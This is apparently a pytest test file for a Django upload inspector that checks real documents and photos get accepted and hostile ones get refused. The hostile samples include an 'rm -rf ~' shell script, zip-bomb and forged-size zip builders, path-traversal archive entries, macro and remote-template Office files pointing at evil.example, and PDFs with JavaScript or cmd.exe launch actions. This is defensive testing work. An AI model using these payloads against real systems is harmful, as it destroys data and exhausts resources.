"""Upload inspection: real files built here (PDF, JPEG, PNG, DOCX, XLSX) and hostile ones beside them."""

import ast
import hashlib
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import ExifTags, Image
from weasyprint import HTML

from thidua.core import uploads
from thidua.core.errors import ValidationFailed
from thidua.core.uploads import (
    DOCUMENT_KINDS,
    EICAR,
    PHOTO_KINDS,
    Inspected,
    UploadRefused,
    eicar_scanner,
    inspect_bytes,
    inspect_upload,
    safe_filename,
    strip_image_metadata,
)

MIB = 1024 * 1024
SCOPED = HealthCheck.function_scoped_fixture
ALL = tuple(uploads.KINDS)


def refused(name, data, allowed=DOCUMENT_KINDS, **kwargs) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_bytes(name, data, allowed=allowed, **kwargs)
    return caught.value


# --- real files ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pdf() -> bytes:
    return HTML(string="<h1>Giấy khen</h1><p>Nguyễn Văn An, xã Tân Uyên</p>").write_pdf()


@pytest.fixture(scope="module")
def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_heading("Báo cáo thành tích", level=1)
    document.add_paragraph("Ông Nguyễn Văn An đã hoàn thành xuất sắc nhiệm vụ năm 2025.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Họ và tên", "Đơn vị"])
    sheet.append(["Nguyễn Văn An", "UBND xã Tân Uyên"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _exif_with_gps(image: Image.Image) -> Image.Exif:
    exif = image.getexif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned: rotate 90° clockwise to show
    exif[ExifTags.Base.Make] = "Canon"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (22.0, 10.0, 5.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (103.0, 40.0, 2.0)
    return exif


@pytest.fixture(scope="module")
def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (120, 60), "red")
    image.paste("blue", (0, 0, 60, 60))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=_exif_with_gps(image), comment=b"taken at home")
    return out.getvalue()


@pytest.fixture(scope="module")
def png_bytes() -> bytes:
    from PIL import PngImagePlugin

    image = Image.new("RGBA", (40, 30), (0, 128, 0, 255))
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Nguyễn Văn An")
    text.add_text("Location", "22.16N 103.66E")
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=text, exif=_exif_with_gps(image))
    return out.getvalue()


def _zip(entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def _docx_with(docx_bytes: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as original:
        entries = {info.filename: original.read(info) for info in original.infolist()}
    entries.update(replace or {})
    entries.update(extra)
    return _zip(entries)


def test_real_files_are_accepted_with_their_kind_hash_and_clean_name(
    pdf, docx_bytes, xlsx_bytes, jpeg_with_gps, png_bytes
):
    cases = [
        ("Giấy khen.pdf", pdf, "pdf", "application/pdf"),
        ("bao-cao.docx", docx_bytes, "docx", uploads.KINDS["docx"].content_type),
        ("danh-sach.XLSX", xlsx_bytes, "xlsx", uploads.KINDS["xlsx"].content_type),
        ("IMG_0001.JPEG", jpeg_with_gps, "jpg", "image/jpeg"),
        ("anh.png", png_bytes, "png", "image/png"),
    ]
    for name, data, kind, content_type in cases:
        inspected = inspect_bytes(name, data, allowed=DOCUMENT_KINDS)
        assert isinstance(inspected, Inspected)
        assert (inspected.kind, inspected.content_type, inspected.size) == (kind, content_type, len(data))
        assert inspected.sha256 == hashlib.sha256(data).hexdigest()
        assert inspected.safe_name.endswith(inspected.extension)
    assert inspect_bytes("danh-sach.XLSX", xlsx_bytes, allowed=["xlsx"]).extension == ".xlsx"
    assert inspect_bytes("IMG_0001.JPEG", jpeg_with_gps, allowed=["jpg"]).safe_name == "IMG_0001.jpeg"


def test_an_opendocument_text_and_a_webp_photo_are_accepted_when_allowed():
    odt = _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
        },
        method=zipfile.ZIP_STORED,
    )
    assert inspect_bytes("to-trinh.odt", odt, allowed=["odt"]).kind == "odt"
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "yellow").save(out, "WEBP")
    assert inspect_bytes("anh.webp", out.getvalue(), allowed=PHOTO_KINDS).content_type == "image/webp"


# --- names, empty, size ----------------------------------------------------------------------------------


def test_safe_names_drop_folders_controls_and_keep_the_extension():
    assert safe_filename("../../etc/Giấy khen.PDF") == "Giấy khen.pdf"
    assert safe_filename("C:\\Users\\An\\Desktop\\bao cao.docx") == "bao cao.docx"
    # NFD input comes back NFC; the right-to-left override used to disguise "fdp.exe" is removed.
    assert safe_filename("Nguye\u0302\u0303n.pdf") == "Nguyễn.pdf"
    assert safe_filename("photo\u202egpj.exe") == "photogpj.exe"
    assert safe_filename("a\x00b\r\n\tc.pdf") == "abc.pdf"
    assert safe_filename('what?*:"<>|.pdf') == "what_______.pdf"
    long = safe_filename("x" * 400 + ".docx")
    assert len(long) == 150 and long.endswith(".docx")
    assert safe_filename("...") == "" and safe_filename("") == "" and safe_filename("/") == ""
    assert safe_filename(".bashrc") == "bashrc"


def test_a_name_with_nothing_usable_is_refused(pdf):
    error = refused("../..", pdf)
    assert error.code == "name" and "no usable name" in str(error)


def test_a_traversal_name_is_cleaned_and_the_file_accepted(pdf):
    assert inspect_bytes("../../../var/www/hack.pdf", pdf, allowed=["pdf"]).safe_name == "hack.pdf"


def test_an_empty_file_is_refused():
    error = refused("trong.pdf", b"")
    assert error.code == "empty" and str(error) == "“trong.pdf” is empty."
    assert isinstance(error, ValidationFailed) and error.errors == {"file": [str(error)]}


def test_an_oversized_file_is_refused_with_the_limit(docx_bytes):
    error = refused("a.docx", docx_bytes + b"\0" * MIB, max_bytes=1 * MIB)
    assert error.code == "too_big" and str(error) == "“a.docx” is larger than 1 MB."
    assert refused("a.docx", b"x" * (10 * MIB + 1)).code == "too_big"  # the setting's 10 MB


# --- programs --------------------------------------------------------------------------------------------

PE = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x4c\x01" + b"\0" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
PROGRAMS = {
    "pe": PE,
    "elf": ELF,
    "mach-o": b"\xcf\xfa\xed\xfe" + b"\0" * 100,
    "mach-o-fat": b"\xca\xfe\xba\xbe" + b"\0" * 100,
    "script": b"#!/bin/sh\nrm -rf ~\n",
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\0" * 60,
}


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_program_renamed_to_pdf_is_refused_as_a_program(program):
    error = refused("bao-cao.pdf", PROGRAMS[program])
    assert error.code == "executable"
    assert str(error) == "“bao-cao.pdf” is a program, not a document; programs are never accepted."


def test_an_old_office_file_is_refused_as_a_type_and_an_installer_as_a_program():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    error = refused("to-trinh.doc", ole)
    assert error.code == "type" and "old-format Office file" in str(error)
    assert refused("setup.msi", ole).code == "executable"
    encrypted = ole + "EncryptedPackage".encode("utf-16-le") + b"\0" * 100
    assert refused("mat-khau.docx", encrypted).code == "encrypted"


# --- kinds and extensions --------------------------------------------------------------------------------


def test_a_png_named_pdf_is_refused_saying_what_it_really_is(png_bytes):
    error = refused("giay-khen.pdf", png_bytes)
    assert error.code == "extension"
    assert str(error) == (
        "“giay-khen.pdf” is really a PNG image, but its name ends in .pdf; rename it to end in .png and "
        "send it again."
    )
    assert refused("giay-khen", png_bytes).code == "extension"


def test_a_kind_not_allowed_here_is_refused_with_the_accepted_list(pdf, png_bytes):
    error = refused("anh.png", png_bytes, allowed=["pdf", "docx"])
    assert error.code == "type"
    assert str(error) == "“anh.png” is a PNG image, which is not accepted here. Accepted: PDF, DOCX."
    error = refused("ghi-chu.txt", "Ghi chú".encode())
    assert error.code == "type" and "not a kind of file accepted here" in str(error)
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100
    assert "HEIC" in str(refused("IMG_1234.HEIC", heic, allowed=PHOTO_KINDS))
    assert "ZIP archive" in str(refused("ho-so.zip", _zip({"a.txt": b"x"})))


def test_allowed_must_name_known_kinds(pdf):
    with pytest.raises(ValueError, match="Allowed kinds"):
        inspect_bytes("a.pdf", pdf, allowed=["exe"])
    with pytest.raises(ValueError, match="Allowed kinds"):
        inspect_bytes("a.pdf", pdf, allowed=[])


# --- zip bombs and hostile archives ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A docx-like file of about 200 KB holding one part of 200 MB of zeros, written in a stream."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            zeros = b"\0" * MIB
            for _ in range(200):
                part.write(zeros)
    return out.getvalue()


def test_a_zip_bomb_is_refused_without_being_expanded(zip_bomb):
    assert len(zip_bomb) < 1 * MIB
    error = refused("b.docx", zip_bomb)
    assert error.code == "archive"
    assert str(error) == (
        "“b.docx” expands to more than 100 MB when opened; it looks like a zip bomb and was refused."
    )


def _lying_zip(real_size: int, declared_size: int) -> bytes:
    """A zip whose one part says it holds `declared_size` bytes (with a matching CRC) but inflates further."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w") as part,
    ):
        for _ in range(real_size // MIB):
            part.write(b"\0" * MIB)
    data = bytearray(out.getvalue())
    crc = zlib.crc32(b"\0" * declared_size)
    assert data[:4] == b"PK\x03\x04"
    struct.pack_into("<III", data, 14, crc, struct.unpack_from("<I", data, 18)[0], declared_size)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, declared_size)
    return bytes(data)


def test_a_zip_that_lies_about_its_sizes_is_refused():
    lying = _lying_zip(30 * MIB, 1000)
    # Python's zipfile believes the declared size and the forged checksum: it sees 1,000 harmless bytes.
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert archive.read("word/document.xml") == b"\0" * 1000
    error = refused("lies.docx", lying)
    assert error.code == "archive" and "declares sizes that do not match" in str(error)


def test_a_highly_compressed_part_is_refused_by_its_ratio():
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (5 * MIB)})
    error = refused("ratio.docx", bomb)
    assert error.code == "archive" and "compressed far more than real documents" in str(error)


def test_the_expansion_budget_counts_real_bytes():
    parts = {f"xl/worksheets/sheet{i}.xml": bytes(range(256)) * 4096 for i in range(3)}  # 1 MB each
    archive = _zip({"[Content_Types].xml": b"<Types/>", **parts})
    assert refused("big.xlsx", archive, max_expanded_bytes=2 * MIB).code == "archive"


def test_too_many_parts_are_refused():
    many = _zip({f"word/p{i}.xml": b"<p/>" for i in range(2001)})
    error = refused("many.docx", many)
    assert error.code == "archive" and "more than 2.000 parts" in str(error)


@pytest.mark.parametrize("entry", ["../../evil.xml", "/etc/passwd", "word\\..\\x.xml", "C:/boot.ini"])
def test_parts_with_unsafe_paths_are_refused(entry):
    error = refused("path.docx", _zip({"[Content_Types].xml": b"<Types/>", entry: b"x"}))
    assert error.code == "archive" and "unsafe path" in str(error)


def test_nested_archives_and_embedded_objects_are_refused(docx_bytes):
    nested = _docx_with(docx_bytes, {"word/media/inner.zip": _zip({"a": b"b"})})
    assert refused("nested.docx", nested).code == "archive"
    disguised = _docx_with(docx_bytes, {"word/media/image9.png": _zip({"a": b"b"})})
    assert refused("disguised.docx", disguised).code == "archive"
    embedded = _docx_with(docx_bytes, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
    assert refused("embedded.docx", embedded).code == "archive"


def test_programs_and_macros_inside_office_files_are_refused(docx_bytes, xlsx_bytes):
    error = refused("virus.docx", _docx_with(docx_bytes, {"word/media/setup.exe": PE}))
    assert error.code == "executable" and "(word/media/setup.exe)" in str(error)
    assert refused("elf.docx", _docx_with(docx_bytes, {"word/media/image1.png": ELF})).code == "executable"
    macro = _docx_with(docx_bytes, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
    error = refused("macro.docx", macro)
    assert error.code == "active_content" and "contains macros" in str(error)
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as original:
        types = original.read("[Content_Types].xml")
    xlsm_types = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    xlsm = _docx_with(xlsx_bytes, {}, replace={"[Content_Types].xml": xlsm_types})
    assert refused("bang.xlsx", xlsm).code == "active_content"
    excel4 = _docx_with(xlsx_bytes, {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert refused("excel4.xlsx", excel4).code == "active_content"


def test_a_document_fetching_a_remote_template_is_refused(docx_bytes):
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    error = refused("template.docx", _docx_with(docx_bytes, {"word/_rels/settings.xml.rels": rels}))
    assert error.code == "active_content" and "fetched from another address" in str(error)
    hyperlink = rels.replace(b"attachedTemplate", b"hyperlink")
    assert inspect_bytes(
        "link.docx", _docx_with(docx_bytes, {"word/_rels/x.xml.rels": hyperlink}), allowed=["docx"]
    )


def test_encrypted_parts_are_refused(docx_bytes):
    data = bytearray(docx_bytes)
    struct.pack_into("<H", data, 6, struct.unpack_from("<H", data, 6)[0] | 1)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<H", data, central + 8, struct.unpack_from("<H", data, central + 8)[0] | 1)
    assert refused("locked.docx", bytes(data)).code == "encrypted"


def test_a_truncated_office_file_is_refused_as_damaged(docx_bytes):
    assert refused("cut.docx", docx_bytes[: len(docx_bytes) // 2]).code == "damaged"
    flipped = bytearray(docx_bytes)
    flipped[200] ^= 0xFF  # inside the first part's compressed bytes
    assert refused("flipped.docx", bytes(flipped)).code == "damaged"


# --- PDFs ------------------------------------------------------------------------------------------------


def _hand_pdf(
    catalog_extra: bytes = b"", objects: list[bytes] | None = None, trailer_extra: bytes = b""
) -> bytes:
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *(objects or []),
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(body) + 1) + trailer_extra + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def test_a_hand_written_pdf_is_accepted():
    assert inspect_bytes("hand.pdf", _hand_pdf(), allowed=["pdf"]).kind == "pdf"


def test_a_pdf_with_javascript_is_refused():
    script = _hand_pdf(b"/OpenAction 4 0 R", [b"<< /S /JavaScript /JS (app.alert('x')) >>"])
    error = refused("script.pdf", script)
    assert error.code == "active_content"
    assert str(error) == (
        "“script.pdf” contains active content (JavaScript) that could run on the reader's computer; "
        "it was refused."
    )
    # Names may be written with #xx escapes; they mean the same to a reader.
    escaped = _hand_pdf(b"/OpenAction 4 0 R", [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"])
    assert refused("escaped.pdf", escaped).code == "active_content"


@pytest.mark.parametrize(
    ("obj", "what"),
    [
        (b"<< /S /Launch /F (cmd.exe) >>", "Launch"),
        (b"<< /Type /EmbeddedFile /Length 0 >>", "EmbeddedFile"),
        (b"<< /Type /RichMedia >>", "RichMedia"),
        (b"<< /XFA 5 0 R >>", "XFA"),
    ],
)
def test_pdf_actions_attachments_and_media_are_refused(obj, what):
    error = refused("active.pdf", _hand_pdf(b"/OpenAction 4 0 R", [obj]))
    assert error.code == "active_content" and f"({what})" in str(error)


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    inner = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(inner)
    objstm = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )
    error = refused("hidden.pdf", _hand_pdf(b"/OpenAction 4 0 R", [objstm]))
    assert error.code == "active_content"


def test_a_pdf_whose_compressed_streams_hold_stray_bytes_is_not_mistaken_for_active(pdf):
    # Binary stream bodies are skipped by their /Length: "/JS " inside an image is not a PDF name.
    image = b"\x00\x01/JS /Launch \x02" * 10
    obj = b"<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(image) + image + b"\nendstream"
    assert inspect_bytes("image.pdf", _hand_pdf(b"", [obj]), allowed=["pdf"]).kind == "pdf"


def test_an_encrypted_pdf_is_refused_clearly():
    encrypted = _hand_pdf(
        b"", [b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"], b"/Encrypt 4 0 R"
    )
    error = refused("mat-khau.pdf", encrypted)
    assert error.code == "encrypted"
    assert str(error) == (
        "“mat-khau.pdf” is protected by a password or encrypted; remove the protection and send it again."
    )


def test_a_pdf_without_its_end_is_refused_as_damaged(pdf):
    assert refused("cut.pdf", pdf[: len(pdf) // 2]).code == "damaged"


# --- images ----------------------------------------------------------------------------------------------


def test_an_image_over_the_pixel_cap_is_refused_before_decoding():
    out = io.BytesIO()
    Image.new("1", (9000, 5000)).save(out, "PNG")  # 45 megapixels, a few kilobytes
    error = refused("poster.png", out.getvalue())
    assert error.code == "image_too_large"
    assert str(error) == (
        "“poster.png” is 9.000 × 5.000 pixels, more than the 40 megapixels accepted; make it smaller and "
        "send it again."
    )


def test_an_image_past_pillows_own_bomb_limit_is_refused_as_too_large():
    # A PNG header announcing 20,000 × 20,000 pixels; Pillow itself calls this a decompression bomb.
    def chunk(kind: bytes, content: bytes) -> bytes:
        checksum = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + checksum

    header = struct.pack(">IIBBBBB", 20000, 20000, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    png += chunk(b"IEND", b"")
    with pytest.raises(Image.DecompressionBombError):
        Image.open(io.BytesIO(png))
    assert refused("huge.png", png).code == "image_too_large"


def test_a_truncated_image_is_refused_as_damaged(jpeg_with_gps, png_bytes):
    assert refused("cut.jpg", jpeg_with_gps[: len(jpeg_with_gps) // 2]).code == "damaged"
    assert refused("cut.png", png_bytes[:-20]).code == "damaged"


def test_photo_metadata_is_stripped_and_orientation_applied(jpeg_with_gps, png_bytes):
    with Image.open(io.BytesIO(jpeg_with_gps)) as original:
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert original.size == (120, 60)
    clean = strip_image_metadata(jpeg_with_gps, "jpg")
    with Image.open(io.BytesIO(clean)) as photo:
        assert photo.size == (60, 120)  # turned upright by the orientation that was dropped
        assert not photo.getexif() and "exif" not in photo.info and "comment" not in photo.info
        assert photo.getpixel((30, 5))[2] > 200  # the blue half is now at the top
    assert b"Exif" not in clean and b"Canon" not in clean and b"taken at home" not in clean
    assert inspect_bytes("clean.jpg", clean, allowed=PHOTO_KINDS).kind == "jpg"

    clean_png = strip_image_metadata(png_bytes, "png")
    with Image.open(io.BytesIO(clean_png)) as image:
        assert image.size == (30, 40)
        assert not image.getexif() and "Author" not in image.info
    assert "Nguyễn".encode() not in clean_png and b"eXIf" not in clean_png
    with pytest.raises(ValueError, match="Not an image kind"):
        strip_image_metadata(clean_png, "pdf")


# --- viruses ---------------------------------------------------------------------------------------------


def test_the_eicar_test_file_is_found_whatever_its_name():
    error = refused("bao-cao.pdf", EICAR + b"\r\n")
    assert error.code == "virus"
    assert str(error) == "“bao-cao.pdf” contains a virus (EICAR-Test-File) and was refused."


def test_the_eicar_test_file_is_found_inside_an_office_file(docx_bytes):
    infected = _docx_with(docx_bytes, {"word/media/readme.txt": b"Hello\n" + EICAR})
    assert refused("infected.docx", infected).code == "virus"
    assert eicar_scanner("x", b"%PDF-1.7\n" + b" " * 100 + EICAR) == "EICAR-Test-File"
    assert eicar_scanner("x", b"\0" * 5000 + EICAR) is None  # past the first 4 KB: not the test file's rule


def _always_infected(name, data):
    return "Win.Test.Thidua"


def _scanner_down(name, data):
    raise ConnectionRefusedError("clamd is not answering")


def test_the_scanner_comes_from_the_setting(settings, pdf):
    settings.THIDUA_UPLOAD_SCANNER = "thidua.core.tests.test_uploads._always_infected"
    error = refused("a.pdf", pdf)
    assert error.code == "virus" and "(Win.Test.Thidua)" in str(error)
    settings.THIDUA_UPLOAD_SCANNER = "thidua.core.tests.test_uploads._scanner_down"
    error = refused("a.pdf", pdf)
    assert error.code == "virus" and "could not be checked for viruses" in str(error)
    assert inspect_bytes("a.pdf", pdf, allowed=["pdf"], scanner=lambda name, data: None).kind == "pdf"


# --- Django uploads --------------------------------------------------------------------------------------


class _Endless(io.RawIOBase):
    """A request body that never ends; counts what was read from it."""

    def __init__(self) -> None:
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def seek(self, offset, whence=0):
        return 0

    def read(self, size=-1):
        size = 64 * 1024 if size is None or size < 0 else size
        self.read_bytes += size
        return b"A" * size


def test_an_upload_is_read_in_chunks_and_dropped_as_soon_as_it_is_too_big():
    body = _Endless()
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(UploadedFile(body, name="lon.pdf", size=None), allowed=["pdf"], max_bytes=MIB)
    assert caught.value.code == "too_big"
    assert MIB < body.read_bytes <= MIB + 64 * 1024

    claimed = _Endless()
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(UploadedFile(claimed, name="2GB.pdf", size=2 * 1024**3), allowed=["pdf"])
    assert caught.value.code == "too_big" and claimed.read_bytes == 0


def test_an_accepted_upload_returns_the_bytes_to_store(pdf):
    inspected, data = inspect_upload(SimpleUploadedFile("../Giấy khen.pdf", pdf), allowed=["pdf"])
    assert data == pdf and inspected.safe_name == "Giấy khen.pdf" and inspected.size == len(pdf)


def _msgids_in_module() -> set[str]:
    tree = ast.parse(Path(uploads.__file__).read_text(encoding="utf-8"))
    msgids: set[str] = set()
    for node in ast.walk(tree):
        called = node.func.id if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) else ""
        if called in {"_", "gettext_lazy"}:
            assert isinstance(node, ast.Call)
            first = node.args[0] if node.args else None
            if isinstance(first, ast.Constant) and isinstance(first.value, str):
                msgids.add(first.value)
    return msgids


def _catalogue() -> dict[str, str]:
    text = (
        Path(uploads.__file__).resolve().parents[2] / "locale" / "vi" / "LC_MESSAGES" / "django.po"
    ).read_text(encoding="utf-8")
    entries = {}
    for block in text.split("\n\n"):
        ids = re.findall(r'^(msgid|msgstr|")(?: ?)"?(.*)"$', block, flags=re.MULTILINE)
        msgid: list[str] = []
        msgstr: list[str] = []
        current: list[str] | None = None
        for keyword, value in ids:
            if keyword in {"msgid", "msgstr"}:
                current = msgid if keyword == "msgid" else msgstr
                current.append(value)
            elif current is not None:
                current.append(value)
        if msgid:
            entries["".join(msgid).replace('\\"', '"')] = "".join(msgstr).replace('\\"', '"')
    return entries


def test_every_message_has_a_vietnamese_translation_with_the_same_placeholders():
    fragment = _catalogue()
    msgids = _msgids_in_module()
    assert len(msgids) > 30
    for msgid in msgids:
        translated = fragment.get(msgid)
        assert translated, msgid
        assert unicodedata.is_normalized("NFC", translated)
        assert sorted(re.findall(r"%\(\w+\)s", translated)) == sorted(re.findall(r"%\(\w+\)s", msgid))


# --- nothing but refusals --------------------------------------------------------------------------------

PREFIXES = [
    b"",
    b"%PDF-1.7\n",
    b"PK\x03\x04",
    b"\xff\xd8\xff\xe0",
    b"\x89PNG\r\n\x1a\n",
    b"RIFF\x10\x00\x00\x00WEBPVP8 ",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
]


@hypothesis_settings(max_examples=300, deadline=None)
@given(prefix=st.sampled_from(PREFIXES), body=st.binary(max_size=2048), name=st.text(max_size=40))
def test_random_bytes_only_ever_raise_upload_refused(prefix, body, name):
    try:
        inspected = inspect_bytes(name, prefix + body, allowed=ALL, max_bytes=1500)
    except UploadRefused as error:
        code, message = error.code, str(error)
        assert code in uploads.CODES and message
    else:
        assert inspected.kind in ALL


@pytest.fixture(scope="module")
def samples(pdf, docx_bytes, jpeg_with_gps, png_bytes) -> list[tuple[str, bytes]]:
    return [("a.pdf", pdf), ("a.docx", docx_bytes), ("a.jpg", jpeg_with_gps), ("a.png", png_bytes)]


@hypothesis_settings(max_examples=200, deadline=None, suppress_health_check=[SCOPED])
@given(which=st.integers(0, 3), flips=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), max_size=8))
def test_damaged_real_files_only_ever_raise_upload_refused(samples, which, flips):
    name, data = samples[which]
    damaged = bytearray(data)
    for where, value in flips:
        damaged[min(int(where * len(damaged)), len(damaged) - 1)] = value
    try:
        inspect_bytes(name, bytes(damaged), allowed=ALL)
    except UploadRefused as error:
        code = error.code
        assert code in uploads.CODES
